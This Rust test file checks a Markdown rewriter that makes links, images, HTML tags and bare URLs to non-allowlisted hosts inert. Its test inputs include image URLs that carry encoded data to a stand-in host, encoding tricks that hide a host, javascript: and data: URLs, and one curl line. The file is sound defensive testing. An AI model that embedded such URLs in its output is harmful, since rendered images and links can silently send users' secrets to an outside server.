//! Tests of the Markdown rewrite (`markdown::rewrite`): links, images and URLs in every form they
//! can be written, hostile ones included, come out inert unless the policy keeps them, and the rest
//! of the text keeps its shape.

use super::markdown::{rewrite, Finding};
use super::policy::LinkPolicy;
use crate::egress::Allowlist;

fn policy() -> LinkPolicy {
    LinkPolicy::new(
        "https://github.com",
        "octo/hello",
        Allowlist::parse("docs.rs").unwrap(),
    )
}

/// The rewrite of `text`, checked to leave nothing more to rewrite, with its invisible breaks
/// (U+200B, which keep inert text inert) taken out for comparing.
fn out(text: &str) -> String {
    let o = rewrite(text, &policy()).text;
    assert_eq!(super::markdown::pending(&o, &policy()), 0, "{text} → {o}");
    o.replace('\u{200B}', "")
}

fn inert_hosts(text: &str) -> Vec<Option<String>> {
    rewrite(text, &policy())
        .findings
        .into_iter()
        .filter_map(|f| match f {
            Finding::Inert { host } => Some(host),
            _ => None,
        })
        .collect()
}

const EXFIL: &str = "https://anywhere.example/p.png?d=c2VjcmV0";

#[test]
fn an_image_with_data_becomes_its_alt_text_and_the_url_as_code() {
    assert_eq!(
        out(&format!("See ![chart]({EXFIL}) here.")),
        format!("See chart (image: ` {EXFIL} `) here.")
    );
    assert_eq!(out(&format!("![]({EXFIL})")), format!("image: ` {EXFIL} `"));
    assert_eq!(
        inert_hosts(&format!("![]({EXFIL})")),
        vec![Some("anywhere.example".into())]
    );
}

#[test]
fn a_link_keeps_its_text_and_shows_where_it_pointed() {
    assert_eq!(
        out("Read [the docs](https://anywhere.example/x \"t\")."),
        "Read the docs (` https://anywhere.example/x `)."
    );
    assert_eq!(
        out("[**bold** text](<https://anywhere.example/a b>)"),
        "**bold** text (` https://anywhere.example/a b `)"
    );
}

#[test]
fn allowed_hosts_and_relative_links_are_left_exactly_as_written() {
    let text = "[PR](https://github.com/octo/hello/pull/1), ![x](docs/a.png), \
                https://docs.rs/url and <https://raw.githubusercontent.com/o/r/a.png> \
                <img src=\"https://github.com/octo/hello/raw/main/a.png\" width=\"40\"> \
                <details><summary>more</summary>\n\nbody\n\n</details>";
    assert_eq!(out(text), text);
    assert!(rewrite(text, &policy()).findings.is_empty());
}

#[test]
fn reference_definitions_and_their_uses_are_inert() {
    let text = "A [report][r] and [r].\n\n[r]: https://anywhere.example/q?d=1 \"title\"\n";
    let o = out(text);
    assert!(
        !o.contains("](") && o.contains("` https://anywhere.example/q?d=1 `"),
        "{o}"
    );
    assert!(
        o.contains("` [r]: https://anywhere.example/q?d=1 \"title\" `"),
        "{o}"
    );
}

#[test]
fn html_images_links_pictures_and_srcsets_are_shown_as_code() {
    for html in [
        format!("<img src=\"{EXFIL}\">"),
        format!("<IMG SRC='{EXFIL}'>"),
        format!("<a href='{EXFIL}'>x</a>"),
        format!("<picture><source srcset=\"{EXFIL} 1x\"><img src=\"a.png\"></picture>"),
        "<img src=\"&#104;ttps&colon;//anywhere.example/p\">".to_string(),
        "<video poster=\"//anywhere.example/p.png\"></video>".to_string(),
    ] {
        let o = out(&format!("Look: {html} done"));
        assert!(o.starts_with("Look: `"), "{html} → {o}");
        let o = out(&format!("{html}\n\nnext"));
        assert!(
            o.starts_with('`') && o.ends_with("\n\nnext"),
            "{html} → {o}"
        );
    }
}

#[test]
fn bare_urls_of_every_scheme_and_www_are_inert() {
    assert_eq!(
        out("go to https://anywhere.example/x?d=1, www.anywhere.example/y or smb://anywhere.example/s."),
        "go to ` https://anywhere.example/x?d=1 `, ` www.anywhere.example/y ` or ` smb://anywhere.example/s `."
    );
    assert_eq!(out("ws://docs.rs/socket"), "` ws://docs.rs/socket `");
}

#[test]
fn entity_escape_and_percent_tricks_do_not_hide_a_host() {
    for text in [
        "[x](https&#58;//anywhere.example/p)",
        "[x](https://%61nywhere.example/p)",
        "[x](//anywhere.example/p)",
        "[x](\\\\\\\\anywhere.example/p)",
        "[x](https://github.com@anywhere.example/p)",
        "[x](data:image/png;base64,AAAA)",
        "[x](javascript:alert(1))",
        "<https://anywhere.example/p>",
        "https&#58;//anywhere.example/p",
        "https:\\//anywhere.example/p",
    ] {
        let r = rewrite(text, &policy());
        out(text);
        assert!(!r.findings.is_empty(), "{text} → {}", r.text);
        assert!(
            !r.text.contains("](") && !r.text.starts_with("<http"),
            "{text} → {}",
            r.text
        );
    }
}

#[test]
fn code_is_left_alone_and_a_stray_backtick_cannot_swallow_the_fence() {
    let text = "```\ncurl https://anywhere.example/x\n```\nand `https://anywhere.example/y`";
    assert_eq!(out(text), text);
    // In a fence at the top level nothing changes; in an inline span the URL gets an invisible
    // break, as GitHub's parser may not read the span as code.
    let raw = rewrite(text, &policy()).text;
    assert!(raw.starts_with("```\ncurl https://anywhere"), "{raw}");
    assert!(
        raw.contains("`https:\u{200B}//anywhere.example/y`"),
        "{raw}"
    );
    // A lone backtick before the URL: the inserted span's fence is longer, so the two cannot pair
    // (and where GitHub's parser loses the span anyway, the defanged URL inside is no link).
    let o = out("a ` b https://anywhere.example/z");
    assert_eq!(o, "a ` b `` https://anywhere.example/z ``");
    // An escaped backtick opens no code span, so the URL after it is text and made inert.
    let o = out("\\` ![](https://anywhere.example/q) `");
    assert!(o.contains("image: `` https://anywhere.example/q ``"), "{o}");
}

#[test]
fn a_long_query_on_an_allowed_host_is_cut_and_counted() {
    let data = "A".repeat(400);
    let r = rewrite(
        &format!("![x](https://github.com/a.png?d={data})"),
        &policy(),
    );
    assert_eq!(r.text, "![x](<https://github.com/a.png>)");
    assert_eq!(
        r.findings,
        vec![Finding::Cut {
            host: "github.com".into()
        }]
    );
    let r = rewrite(&format!("see https://github.com/x?d={data}"), &policy());
    assert_eq!(r.text, "see <https://github.com/x>");
}

#[test]
fn a_link_inside_an_image_inside_a_link_is_all_inert() {
    let o = out("[![a](https://anywhere.example/i.png)](https://anywhere.example/l)");
    assert_eq!(
        o,
        "a (image: ` https://anywhere.example/i.png `) (` https://anywhere.example/l `)"
    );
}

#[test]
fn a_table_cell_keeps_its_table() {
    let o = out("| a | b |\n|---|---|\n| ![](https://anywhere.example/x?a=1) | y |\n");
    assert!(
        o.contains("| image: ` https://anywhere.example/x?a=1 ` | y |"),
        "{o}"
    );
    // A `|` ends the cell before the image does: what is left is text, its URL inert.
    let o = out("| a | b |\n|---|---|\n| ![](https://anywhere.example/x?a=1|2) | y |\n");
    assert!(o.contains("` https://anywhere.example/x?a=1 `"), "{o}");
}

#[test]
fn hostile_volume_is_bounded() {
    let many = "![](https://anywhere.example/p.png) ".repeat(5000);
    let r = rewrite(&many, &policy());
    out(&many);
    assert_eq!(r.findings.len(), 5000);
    assert!(!r.text.contains("]("));
    let nested = "[".repeat(20_000) + "x" + &"](https://anywhere.example/)".repeat(20_000);
    let r = rewrite(&nested, &policy());
    assert!(!r.findings.is_empty());
}

/// The rewrite of `text` as it is posted (invisible breaks kept), checked to leave nothing more.
fn posted(text: &str) -> String {
    let o = rewrite(text, &policy()).text;
    assert_eq!(super::markdown::pending(&o, &policy()), 0, "{text} → {o}");
    o
}

#[test]
fn a_tag_cut_over_a_quotes_lines_with_a_referenced_scheme_is_escaped() {
    for text in [
        "> quote <img\n> src=\"https&#58;//anywhere.example/p\">",
        "> > <img\n> > src=\"https&#58;//anywhere.example/p\">",
    ] {
        let o = posted(text);
        assert!(o.contains("&lt;img") && !o.contains("<img"), "{text} → {o}");
        assert!(!inert_hosts(text).is_empty(), "{text}");
    }
}

#[test]
fn a_tag_cut_over_a_list_items_quote_is_escaped() {
    let text = "- item\n  > <img\n  > src=https&#x3A;//anywhere.example/p>";
    let o = posted(text);
    assert!(!o.contains("<img"), "{o}");
}

#[test]
fn a_fence_after_a_tag_is_not_trusted_as_code() {
    // GitHub's parser reads the fence as part of an HTML block the tag after the lazy line opens;
    // pulldown-cmark reads a fence.
    let text = "> a\n<img src=\"https://github.com/octo/hello/a.png\">\n```\n<img src=\"https&#58;//anywhere.example/p\">\n```";
    let o = posted(text);
    assert!(!o.contains("<img src=\"https&#58;"), "{o}");
    // After a blank line a fence is code, left as written.
    let fenced = "> a\n\n```\n<img src=\"https&#58;//anywhere.example/p\">\n```";
    assert_eq!(posted(fenced), fenced);
}

#[test]
fn a_referenced_url_in_code_github_may_not_see_is_broken() {
    // pulldown-cmark reads the definition as the list's open fence; GitHub's parser as a
    // definition `[c][r]` uses.
    let text = "- ```\n  x\n- > [r]: https&#58;//anywhere.example/p\n\n[c][r]";
    let o = posted(text);
    assert!(!o.contains("https&#58;"), "{o}");
}

#[test]
fn rendered_fences_holding_a_foreign_url_are_posted_as_code_and_clean_ones_stay() {
    for (text, shown) in [
        (
            "```mermaid\ngraph TD\n  A[<img src='https://anywhere.example/m.png'>] --> B\n```",
            "```text mermaid\n",
        ),
        (
            "~~~GeoJSON\n{\"properties\":{\"u\":\"//anywhere.example/g\"}}\n~~~",
            "~~~text GeoJSON\n",
        ),
        (
            "```topojson\nhttps&#58;//anywhere.example/t\n```",
            "```text topojson\n",
        ),
        ("```stl\nsolid www.anywhere.example\n```", "```text stl\n"),
        (
            "```math\n\\href{https://anywhere.example/x}{y}\n```",
            "```text math\n",
        ),
        (
            "- ```mermaid\n  A[https://anywhere.example/x]\n  ```",
            "- ```text mermaid\n",
        ),
    ] {
        let r = rewrite(text, &policy());
        assert!(r.text.starts_with(shown), "{text} → {}", r.text);
        assert!(
            r.findings.iter().any(|f| matches!(f,
                Finding::Inert { host: Some(h) } if h.ends_with("anywhere.example"))),
            "{text}: {:?}",
            r.findings
        );
    }
    for text in [
        "```mermaid\ngraph TD\n  A --> B\n```",
        "```mermaid\nclick A \"https://github.com/octo/hello\"\n```",
        "```geojson\n{\"type\": \"Point\", \"coordinates\": [1, 2]}\n```",
    ] {
        let r = rewrite(text, &policy());
        assert_eq!(r.text, text);
        assert!(r.findings.is_empty(), "{text}: {:?}", r.findings);
    }
}
